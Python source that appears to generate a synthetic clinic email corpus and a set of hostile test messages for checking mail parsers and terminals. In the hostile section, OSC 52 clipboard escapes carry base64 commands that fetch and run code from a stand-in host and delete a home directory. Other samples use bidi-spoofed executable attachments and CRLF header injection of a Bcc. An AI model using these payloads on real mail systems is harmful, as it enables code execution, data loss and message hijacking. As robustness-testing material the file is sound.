             f"\t(No client certificate requested)\r\n\tby {_MX} (Postfix) with ESMTPS id "
             f"{queue_id}\r\n\tfor <{recipient}>; {arrival}"),
            (f"Authentication-Results: {_MX};\r\n\tdkim=pass (2048-bit key; unprotected) "
             f"header.d={domain} header.i=@{domain} header.a=rsa-sha256 header.s={selector} "
             f"header.b={dkim_b[:8]};\r\n\tspf=pass (sender SPF authorized) smtp.mailfrom={domain};"
             f"\r\n\tdmarc=pass (p=none dis=none) header.from={domain}"),
            (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\r\n\td={domain}; "
             f"s={selector}; t={int(ts)}; x={int(ts) + 604800};\r\n"
             "\th=to:subject:message-id:date:from:in-reply-to:references:mime-version\r\n"
             f"\t :from:to:cc:subject:date:message-id:reply-to;\r\n\tbh={body_hash};\r\n"
             f"\tb={dkim_b}"),
        ]
        if profile == "gmail":
            lines.append(
                "X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\r\n"
                f"\td=1e100.example; s=20230601; t={int(ts)};\r\n\tbh={body_hash};\r\n"
                f"\tb={dkim_b[:280]}"
            )
            lines.append(
                "X-Gm-Message-State: "
                + base64.b64encode(rng.randbytes(60)).decode("ascii")
            )
            lines.append(
                f"X-Received: by 2002:a05:6000:{rng.randint(100, 999)}"
                f":b0:33d:{rng.randint(100, 999)} with SMTP id {rng.randbytes(10).hex()};\r\n        {_fmt_date(ts, -480)}"
            )
            lines.append(
                "X-Google-Smtp-Source: "
                + base64.b64encode(rng.randbytes(48)).decode("ascii")
            )
        elif profile in ("outlook", "staff"):
            lines.append(
                "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.example; cv=none;"
                f"\r\n\tb={dkim_b[:420]}"
            )
            lines.append(
                "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed;\r\n"
                " d=microsoft.example; s=arcselector10001;\r\n"
                " h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;"
                f"\r\n bh={body_hash};\r\n b={dkim_b[:400]}"
            )
            lines.append(
                "X-MS-Exchange-CrossTenant-Network-Message-Id: "
                f"{rng.randbytes(4).hex()}-{rng.randbytes(2).hex()}-{rng.randbytes(2).hex()}-"
                f"{rng.randbytes(2).hex()}-{rng.randbytes(6).hex()}"
            )
            lines.append(
                f"ARC-Authentication-Results: i=1; mx.microsoft.example 1; spf=pass\r\n"
                f" smtp.mailfrom={domain}; dmarc=pass action=none header.from={domain};\r\n"
                f" dkim=pass header.d={domain}; arc=none"
            )
            lines.append(
                "X-Forefront-Antispam-Report: CIP:255.255.255.255;CTRY:;LANG:en;SCL:1;SRV:;"
                "IPV:NLI;SFV:NSPM;H:SN6PR04MB4973.namprd04.prod.outlook.example;PTR:;CAT:NONE;"
                "\r\n\tSFS:(13230031)(4636009)(366004)(376002)(39860400002)(136003)(346002)"
                "(396003)(451199021)(38070700005)(86362001)(2906002)(71200400001)(478600001)"
                "\r\n\t(316002)(7696005)(9686003)(6506007)(55016003)(66946007)(66556008)"
                "(64756008)(66446008)(66476007)(76116006)(8676002)(8936002)(5660300002)"
                "(41300700001)(52536014)(33656002)(26005)(186003)(83380400001)(122000001)"
                "(38100700002);DIR:OUT;SFP:1101;"
            )
            lines.append("X-MS-Exchange-CrossTenant-AuthAs: Internal")
            lines.append(
                "X-MS-Exchange-CrossTenant-originalarrivaltime: "
                + _fmt_date(ts, 0).split(", ", 1)[1].replace(" +0000", "") + ".1234 (UTC)"
            )
            lines.append(
                "X-MS-Exchange-CrossTenant-id: "
                f"{rng.randbytes(4).hex()}-{rng.randbytes(2).hex()}-{rng.randbytes(2).hex()}-"
                f"{rng.randbytes(2).hex()}-{rng.randbytes(6).hex()}"
            )
            lines.append("X-MS-Exchange-Transport-CrossTenantHeadersStamped: SN6PR04MB4973")
            lines.append(
                "X-Microsoft-Antispam-Message-Info: "
                + "\r\n\t".join(
                    base64.b64encode(rng.randbytes(300)).decode("ascii")[i : i + 76]
                    for i in range(0, 400, 76)
                )
            )
        return lines

    def _compose_patient(self, thread: _Thread, position: int) -> str:
        rng = self.rng
        slots = thread.slots
        first = slots["first"]
        if thread.red_flag:
            return _RED_FLAG_BODY.format_map(slots) + f"\r\n\r\n{first}"
        if position == 0:
            greeting = rng.choice(("Hello,", "Hi,", "Good morning,", "Dear Riverside staff,", ""))
            opener = rng.choice(thread.topic.openers)
            pool = thread.topic.details
            details = rng.sample(pool, min(len(pool), rng.randint(2, 4)))
            paragraphs = [opener, " ".join(details[:2])]
            if len(details) > 2:
                paragraphs.append(" ".join(details[2:]))
        else:
            greeting = rng.choice(("Hi,", "Hello,", "", ""))
            paragraphs = [rng.choice(_PATIENT_FOLLOWUPS)]
        closing = rng.choice(
            ("Thank you,", "Thanks,", "Best regards,", "Sincerely,", "Thanks so much,")
        )
        text = "\r\n\r\n".join(p.format_map(slots) for p in paragraphs)
        if greeting:
            text = f"{greeting}\r\n\r\n{text}"
        text += f"\r\n\r\n{closing}\r\n{thread.patient.name}"
        if thread.patient.profile == "apple" and rng.random() < 0.6:
            text += "\r\n\r\nSent from my iPhone"
        elif thread.patient.profile == "phone" and rng.random() < 0.5:
            text += "\r\n\r\nSent from Yahoo Mail for Android"
        return text

    def _compose_staff(self, thread: _Thread, position: int) -> str:
        rng = self.rng
        slots = thread.slots
        staff = thread.staff
        if position == 1:
            body = rng.choice(thread.topic.replies)
        else:
            body = rng.choice(_STAFF_FOLLOWUPS)
        extra = rng.choice(
            (
                "",
                "If you have any other questions, just reply to this email or call us at (555) 010-4400.",
                "Please remember that our office is closed on Fridays from 12 to 1 pm.",
            )
        )
        parts = [f"Hi {slots['first']},", body.format_map(slots)]
        if extra:
            parts.append(extra)
        parts.append(
            f"Kind regards,\r\n{staff.name}\r\n{staff.title} | {CLINIC_NAME}\r\n"
            f"{_MAILBOX_TITLES[staff.mailbox]}: {CLINIC_MAILBOXES[staff.mailbox]}\r\n"
            "1200 River Road, Suite 4, Springfield | Phone (555) 010-4400 | Fax (555) 010-4401"
        )
        parts.append(_DISCLAIMER)
        return "\r\n\r\n".join(parts)

    def _quote(self, thread: _Thread, profile: str) -> str:
        """The previous message, quoted the way this sender's client quotes."""
        if not thread.last_text:
            return ""
        if profile in ("outlook", "staff"):
            return (
                "\r\n\r\n________________________________\r\n"
                f"From: {thread.last_from}\r\nSent: {thread.last_date}\r\n"
                f"Subject: {thread.last_subject}\r\n\r\n{thread.last_text}"
            )
        quoted = "\r\n".join(
            f"> {line}" if line else ">" for line in thread.last_text.split("\r\n")
        )
        return f"\r\n\r\nOn {thread.last_date}, {thread.last_from} wrote:\r\n\r\n{quoted}"

    def _html(self, own: str, quote: str, profile: str, charset: str) -> str:
        """An HTML alternative: heavy Word markup for Outlook, light divs elsewhere."""
        paragraphs = [html.escape(p).replace("\r\n", "<br>\r\n") for p in own.split("\r\n\r\n")]
        quote_html = ""
        if quote:
            quote_html = (
                "<blockquote style=\"margin:0 0 0 .8ex;border-left:1px #ccc solid;"
                "padding-left:1ex\">\r\n" + html.escape(quote).replace("\r\n", "<br>\r\n")
                + "</blockquote>\r\n"
            )
        if profile in ("outlook", "staff"):
            body = "".join(
                f"<p class=\"MsoNormal\">{p}<o:p></o:p></p>\r\n"
                "<p class=\"MsoNormal\"><o:p>&nbsp;</o:p></p>\r\n"
                for p in paragraphs
            )
            return (
                "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" "
                "xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
                "xmlns:w=\"urn:schemas-microsoft-com:office:word\" "
                "xmlns:m=\"http://schemas.microsoft.com/office/2004/12/omml\" "
                "xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n<head>\r\n"
                f"<meta http-equiv=\"Content-Type\" content=\"text/html; charset={charset}\">\r\n"
                "<meta name=\"Generator\" content=\"Microsoft Word 15 (filtered medium)\">\r\n"
                f"{_OUTLOOK_STYLE}\r\n</head>\r\n<body lang=\"EN-US\" link=\"#0563C1\" "
                "vlink=\"#954F72\" style=\"word-wrap:break-word\">\r\n"
                f"<div class=\"WordSection1\">\r\n{body}{quote_html}</div>\r\n"
                "</body>\r\n</html>\r\n"
            )
        body = "".join(f"<div>{p}</div><div><br></div>\r\n" for p in paragraphs)
        return (
            f"<div dir=\"ltr\">\r\n{body}</div>\r\n<br><div class=\"gmail_quote\">\r\n"
            f"{quote_html}</div>\r\n"
        )

    def _encode_part(self, text: str, subtype: str, style: _Style, charset: str) -> str:
        data = text.encode(charset)
        cte = style.text_cte
        if cte == "quoted-printable":
            if data.isascii() and subtype == "plain" and max(map(len, text.split("\r\n"))) < 900:
                cte = "7bit"
                payload = text
            else:
                payload = binascii.b2a_qp(data, istext=True).decode("ascii")
        elif cte == "base64":
            payload = _b64_lines(data)
        else:
            payload = data.decode("latin-1")
            cte = "8bit" if not data.isascii() else "7bit"
        if not payload.endswith("\r\n"):
            payload += "\r\n"
        return (
            f"Content-Type: text/{subtype}; charset=\"{charset}\"\r\n"
            f"Content-Transfer-Encoding: {cte}\r\n\r\n{payload}"
        )

    def _attachment(self, thread: _Thread) -> str:
        rng = self.rng
        kind = thread.topic.attachment
        size, payload = _attachment_payload(kind, rng.randrange(_PAYLOADS_PER_KIND))
        filename = rng.choice(thread.topic.filenames).format_map(thread.slots)
        mime = "image/jpeg" if kind == "jpeg" else "application/pdf"
        if filename.isascii():
            name_params = f"name=\"{filename}\""
            disposition = f"attachment; filename=\"{filename}\"; size={size}"
        else:
            encoded = "".join(
                chr(b) if chr(b).isalnum() or chr(b) in "._-" else f"%{b:02X}"
                for b in filename.encode("utf-8")
            )
            name_params = f"name=\"{_encoded_words(filename, 'utf-8', 'Q')}\""
            disposition = f"attachment;\r\n\tfilename*=utf-8''{encoded}; size={size}"
        return (
            f"Content-Type: {mime}; {name_params}\r\n"
            f"Content-Description: {filename if filename.isascii() else 'attachment'}\r\n"
            f"Content-Disposition: {disposition}\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{payload}"
        )

    def _boundary(self, profile: str) -> str:
        token = self.rng.randbytes(12).hex()
        if profile == "gmail":
            return f"000000000000{token[:12]}"
        if profile in ("outlook", "staff"):
            return f"_000_{token.upper()}SN6PR04MB4973namp_"
        if profile == "apple":
            return f"Apple-Mail={token[:8]}-{token[8:12]}-{token[12:16]}"
        return f"----=_Part_{int(token[:8], 16)}_{int(token[8:16], 16)}.{int(token[16:], 16)}"

    def render(self, item: _Planned) -> bytes:
        """Build one message; must be called in plan order (replies quote their parent)."""
        rng = self.rng
        thread = item.thread
        position = item.position
        from_staff = position % 2 == 1
        if from_staff:
            profile = "staff"
            mailbox = CLINIC_MAILBOXES[thread.staff.mailbox]
            sender_name = f"{thread.staff.name} | {CLINIC_NAME}"
            from_address = mailbox
            sender = _Person(sender_name, from_address, profile, _CLINIC_OFFSET_MIN)
            to_name, to_address = thread.patient.name, thread.patient.address
            own = self._compose_staff(thread, position)
            recipient = thread.patient.address
            domain = CLINIC_DOMAIN
        else:
            sender = thread.patient
            profile = sender.profile
            from_address = sender.address
            if position == 0:
                to_name = f"{CLINIC_NAME} {thread.staff.mailbox.title()}"
                to_address = CLINIC_MAILBOXES[thread.topic.mailbox]
            else:
                to_name = f"{thread.staff.name} | {CLINIC_NAME}"
                to_address = CLINIC_MAILBOXES[thread.staff.mailbox]
            own = self._compose_patient(thread, position)
            recipient = to_address
            domain = from_address.split("@", 1)[1]
        style = _STYLES[profile]
        if profile in ("outlook", "staff"):
            own = own.replace("'", "\u2019").replace(" - ", " \u2013 ")

        quote = self._quote(thread, profile) if position > 0 else ""
        full_text = own + quote
        charset = next((c for c in style.charsets if _fits(full_text, c)), "utf-8")
        header_text = sender.name + to_name + thread.subject
        header_charset = charset if _fits(header_text, charset) else "utf-8"

        if position == 0:
            subject = thread.subject
        else:
            subject = style.reply_prefix + thread.subject
            if rng.random() < 0.08:
                subject = style.reply_prefix + subject
        date = _fmt_date(item.ts, sender.offset_min)
        message_id = self._message_id(domain, profile, item.ts)

        headers = self._transport_headers(
            None if from_staff else sender, recipient, item.ts, profile, domain
        )
        mode = style.header_mode
        headers.append(f"From: {_fmt_addr(sender.name, from_address, header_charset, mode)}")
        headers.append(f"To: {_fmt_addr(to_name, to_address, header_charset, mode)}")
        if thread.cc is not None and position == 0:
            headers.append(
                f"Cc: {_fmt_addr(thread.cc.name, thread.cc.address, 'utf-8', mode)}"
            )
        if from_staff and rng.random() < 0.5:
            headers.append(f"Reply-To: {CLINIC_MAILBOXES[thread.staff.mailbox]}")
        headers.append(f"Subject: {_header_text(subject, header_charset, mode)}")
        headers.append(f"Date: {date}")
        headers.append(f"Message-ID: {message_id}")
        drop_refs = position > 0 and not from_staff and rng.random() < 0.12
        if position > 0 and not drop_refs:
            headers.append(f"In-Reply-To: {thread.last_id}")
            refs = (thread.references + [thread.last_id])[-10:]
            headers.append("References: " + "\r\n ".join(refs))
        if profile in ("outlook", "staff"):
            headers.append(f"Thread-Topic: {_header_text(thread.subject, header_charset, 'Q')}")
            thread_index = base64.b64encode(rng.randbytes(22 + 5 * position)).decode("ascii")
            headers.append(f"Thread-Index: {thread_index}")
            headers.append("Accept-Language: en-US")
            headers.append("Content-Language: en-US")
            headers.append("X-MS-Has-Attach: ")
            headers.append(f"X-Originating-IP: [203.0.113.{rng.randint(2, 254)}]")
        elif profile == "apple":
            headers.append("X-Mailer: iPhone Mail (21E236)")
        elif profile == "webmail":
            headers.append("User-Agent: SquirrelMail/1.4.23 [SVN]")
            headers.append("X-Priority: 3 (Normal)")
            headers.append("Importance: Normal")
        elif profile == "phone":
            headers.append("X-Mailer: WebService/1.1.22046 YMailNorrin")

        with_html = rng.random() < style.html_rate
        attach = not thread.red_flag and rng.random() < 0.05
        text_part = self._encode_part(full_text, "plain", style, charset)
        if with_html:
            boundary = self._boundary(profile)
            html_text = self._html(own, quote, profile, charset)
            html_part = self._encode_part(html_text, "html", style, charset)
            body_part = (
                f"Content-Type: multipart/alternative; boundary=\"{boundary}\"\r\n\r\n"
                f"--{boundary}\r\n{text_part}\r\n--{boundary}\r\n{html_part}\r\n--{boundary}--\r\n"
            )
        else:
            body_part = text_part
        if attach:
            outer = self._boundary(profile)
            body_part = (
                f"Content-Type: multipart/mixed; boundary=\"{outer}\"\r\n\r\n"
                "This is a multi-part message in MIME format.\r\n\r\n"
                f"--{outer}\r\n{body_part}\r\n--{outer}\r\n{self._attachment(thread)}\r\n"
                f"--{outer}--\r\n"
            )
        headers.append("MIME-Version: 1.0")
        message = "\r\n".join(headers) + "\r\n" + body_part

        thread.references = (thread.references + [thread.last_id])[-10:] if thread.last_id else []
        thread.last_id = message_id
        thread.last_text = full_text
        thread.last_from = _plain_addr(sender.name, from_address)
        thread.last_date = date
        thread.last_subject = subject
        thread.remaining -= 1
        if thread.remaining <= 0:
            thread.last_text = ""
        return message.encode("latin-1")


def _plain_addr(name: str, address: str) -> str:
    return f"{name} <{address}>"


def _default_end() -> dt.datetime:
    today = dt.datetime.now(dt.UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    return today


def generate_corpus(
    n: int, seed: int = 1, *, end: dt.datetime | None = None
) -> Iterator[bytes]:
    """Yield `n` raw RFC 5322 messages (CRLF line ends), oldest first.

    Threads between patients and the clinic's appointments@, billing@ and results@
    mailboxes spread over the 90 days before `end` (default: today 00:00 UTC). Exactly one
    message is a red-flag "chest pain" message from the last two days. The bytes are a
    pure function of (n, seed, end).
    """
    if n < 0:
        raise ValueError("n must be >= 0")
    builder = _CorpusBuilder(n, seed, end or _default_end())
    for item in builder.plan():
        yield builder.render(item)


# ------------------------------------------------------------------------ hostile


def _simple(headers: Sequence[str], body: str | bytes) -> bytes:
    """Headers and body joined as raw bytes; str parts are written as UTF-8."""
    head = "\r\n".join(headers).encode("utf-8") + b"\r\n\r\n"
    return head + (body.encode("utf-8") if isinstance(body, str) else body)


_HOSTILE_ID = "<hostile-{name}@attacker.example>"


def _base_headers(subject: str, message_id: str | None = _HOSTILE_ID) -> list[str]:
    lines = [
        "From: Mallory <mallory@attacker.example>",
        f"To: {CLINIC_MAILBOXES['appointments']}",
        "Date: Mon, 3 Mar 2025 09:15:00 -0500",
        f"Subject: {subject}",
        "MIME-Version: 1.0",
    ]
    if message_id is not None:
        lines.append(f"Message-ID: {message_id}")
    return lines


@functools.lru_cache(maxsize=1)
def _huge_attachment_b64() -> str:
    """20 MiB of attachment, base64-encoded once per process (it takes ~0.1 s)."""
    data = random.Random(20).randbytes(20 * 1024 * 1024)
    encoded = binascii.b2a_base64(data, newline=False).decode("ascii")
    return "\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76)) + "\r\n"


def hostile_messages() -> list[tuple[str, bytes]]:
    """Named messages that try to break parsers, terminals, threading and storage.

    Every name is unique; the list order is stable. Each message is something a real
    attacker, a broken mailer or a buggy gateway has sent.
    """
    # SGR colour, OSC 52 clipboard write, OSC 8 hyperlink and a C1 CSI (erase screen).
    esc_subject = (
        "Invoice \x1b[31mOVERDUE\x1b[0m \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
        "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x9b2J"
    )
    markup = (
        "Re: [/bold] [@click=app.quit]Reschedule[/] [b]now[/b] "
        "[link=https://evil.example]portal[/link]"
    )
    escaped_name = "Dr. Patel\x1b[8m hidden \x1b[0m\x1b]52;c;cm0gLXJmIH4=\x07"
    messages: list[tuple[str, bytes]] = []

    def add(name: str, raw: bytes) -> None:
        messages.append((name, raw.replace(b"{name}", name.encode("ascii"))))

    add(
        "escape-sequences-raw-subject",
        _simple(
            _base_headers(esc_subject)
            + ["Content-Type: text/plain; charset=utf-8"],
            "Terminal escape sequences in a raw header and the body: \x1b[2J\x1b[H\x1b]0;pwned\x07 done.\r\n",
        ),
    )
    add(
        "escape-sequences-encoded-subject",
        _simple(
            _base_headers(_encoded_words(esc_subject, "utf-8", "B"))
            + ["Content-Type: text/plain; charset=utf-8"],
            "The subject hides escape sequences and a C1 CSI inside RFC 2047.\r\n",
        ),
    )
    add(
        "escape-sequences-display-name",
        _simple(
            [
                "From: =?utf-8?B?"
                + base64.b64encode(escaped_name.encode()).decode()
                + "?= <patel@attacker.example>",
                *_base_headers("Lab results")[1:],
                "Content-Type: text/plain; charset=utf-8",
            ],
            "Display name with escapes.\r\n",
        ),
    )
    add(
        "rich-markup-raw",
        _simple(
            [
                'From: "[@click=app.quit]Front Desk[/]" <frontdesk@attacker.example>',
                *_base_headers(markup)[1:],
                "Content-Type: text/plain; charset=utf-8",
            ],
            "Body with [red]markup[/red], [/] and [@click=app.bell]actions[/].\r\n",
        ),
    )
    add(
        "rich-markup-encoded",
        _simple(
            [
                "From: " + _encoded_words("[b]Zoë[/b] [@click=app.quit]", "utf-8", "Q")
                + " <zoe@attacker.example>",
                *_base_headers(_encoded_words(markup + " – ü", "utf-8", "B"))[1:],
                "Content-Type: text/plain; charset=utf-8",
            ],
            "Encoded markup in the display name and subject.\r\n",
        ),
    )
    add(
        "bidi-override",
        _simple(
            [
                "From: "
                + _encoded_words("Billing \u202eknaB\u202c", "utf-8", "B")
                + " <billing@attacker.example>",
                *_base_headers(
                    _encoded_words("Statement \u202egpj.exe\u202c \u2066ok\u2069", "utf-8", "B")
                )[1:],
                "Content-Type: multipart/mixed; boundary=\"b1\"",
            ],
            "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            "Pay here: \u202ehttps://evil.example\u202c\r\n"
            "--b1\r\nContent-Type: application/octet-stream\r\n"
            "Content-Disposition: attachment; filename*=utf-8''statement%E2%80%AEfdp.exe\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA\r\n--b1--\r\n",
        ),
    )
    add(
        "raw-8bit-headers",
        _simple(
            [
                "From: José Núñez <jose@patients.example>",
                "To: appointments@" + CLINIC_DOMAIN,
                "Date: Tue, 4 Mar 2025 10:00:00 -0500",
                "Subject: Cita médica – 王芳 ¿mañana?",
                "Message-ID: <raw-8bit@patients.example>",
                "Content-Type: text/plain",
            ],
            "Raw UTF-8 in headers with no MIME declaration.\r\n",
        ),
    )
    add(
        "raw-latin1-headers",
        b"From: Ren\xe9e Dubois <renee@patients.example>\r\nTo: billing@"
        + CLINIC_DOMAIN.encode()
        + b"\r\nDate: Tue, 4 Mar 2025 11:00:00 -0500\r\nSubject: Facture d\xe9j\xe0 pay\xe9e\r\n"
        b"Message-ID: <raw-latin1@patients.example>\r\n\r\nPas de charset d\xe9clar\xe9.\r\n",
    )
    add(
        "unknown-charset",
        _simple(
            _base_headers("=?x-klingon-8?Q?Qapla=E9?= results")
            + [
                "Content-Type: text/plain; charset=\"x-klingon-8\"",
                "Content-Transfer-Encoding: 8bit",
            ],
            b"\xe9\xfc\xff\xfe unknown charset body\r\n",
        ),
    )
    add(
        "lying-charset-utf8",
        _simple(
            _base_headers("Declared UTF-8, actually Windows-1252")
            + ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"],
            b"We\x92re sorry \x96 your \x93balance\x94 is \x80120.\r\n",
        ),
    )
    add(
        "lying-charset-ascii",
        _simple(
            _base_headers("Declared us-ascii, actually UTF-8")
            + ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit"],
            "Søren says: naïve café – ✓\r\n",
        ),
    )
    depth = 200
    nested_head = "".join(
        f"--n{i}\r\nContent-Type: multipart/mixed; boundary=\"n{i + 1}\"\r\n\r\n"
        for i in range(depth)
    )
    nested_tail = "".join(f"--n{i}--\r\n" for i in range(depth, -1, -1))
    add(
        "deep-nesting-200",
        _simple(
            _base_headers("Nested 200 deep") + ["Content-Type: multipart/mixed; boundary=\"n0\""],
            nested_head
            + f"--n{depth}\r\nContent-Type: text/plain\r\n\r\nBottom of the well.\r\n"
            + nested_tail,
        ),
    )
    add(
        "no-message-id",
        _simple(
            _base_headers("No Message-ID at all", message_id=None) + ["Content-Type: text/plain"],
            "Threading must not crash on a missing Message-ID.\r\n",
        ),
    )
    add(
        "duplicate-message-id-a",
        _simple(
            _base_headers("Appointment confirmed", "<same-id@collide.example>")
            + ["Content-Type: text/plain"],
            "First of two different messages sharing one Message-ID.\r\n",
        ),
    )
    add(
        "duplicate-message-id-b",
        _simple(
            _base_headers("URGENT: billing dispute", "<same-id@collide.example>")
            + ["Content-Type: text/plain"],
            "Second, unrelated message with the same Message-ID. Never merge or drop it.\r\n",
        ),
    )
    add(
        "huge-attachment-20mb",
        _simple(
            _base_headers("Scans of all my records")
            + ["Content-Type: multipart/mixed; boundary=\"big\""],
            "--big\r\nContent-Type: text/plain\r\n\r\nHere are the scans.\r\n"
            "--big\r\nContent-Type: application/pdf; name=\"scans.pdf\"\r\n"
            "Content-Disposition: attachment; filename=\"scans.pdf\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + _huge_attachment_b64() + "--big--\r\n",
        ),
    )
    add(
        "broken-base64",
        _simple(
            _base_headers("Insurance card") + ["Content-Type: multipart/mixed; boundary=\"bb\""],
            "--bb\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            "SGVsbG8gd29ybGQ!!!*** not base64 at all ===\r\nQUJD=RE\r\n"
            "--bb\r\nContent-Type: image/jpeg; name=\"card.jpg\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n"
            "/9j/4AAQSkZJRgABAQ\r\n%%%%\r\n/9j/4A=\r\n--bb--\r\n",
        ),
    )
    add(
        "truncated-multipart",
        _simple(
            _base_headers("Referral letter") + ["Content-Type: multipart/mixed; boundary=\"cut\""],
            "--cut\r\nContent-Type: text/plain\r\n\r\nSee attached referral.\r\n"
            "--cut\r\nContent-Type: application/pdf; name=\"referral.pdf\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJeLjz9MKMSAwIG9iago8PCAvVHlwZSAv",
        ),
    )
    add(
        "nul-bytes",
        _simple(
            _base_headers("NUL\x00 in subject") + ["Content-Type: text/plain"],
            b"Before NUL\x00after NUL\x00\x00 and more.\r\n",
        ),
    )
    injected = b"Refill\r\nBcc: everyone@attacker.example\r\nX-Evil: 1"
    add(
        "header-injection-encoded-crlf",
        _simple(
            _base_headers(
                "=?utf-8?B?"
                + base64.b64encode(injected).decode()
                + "?="
            )
            + ["Content-Type: text/plain"],
            "Replying with this subject copied verbatim would inject a Bcc header.\r\n",
        ),
    )
    return messages
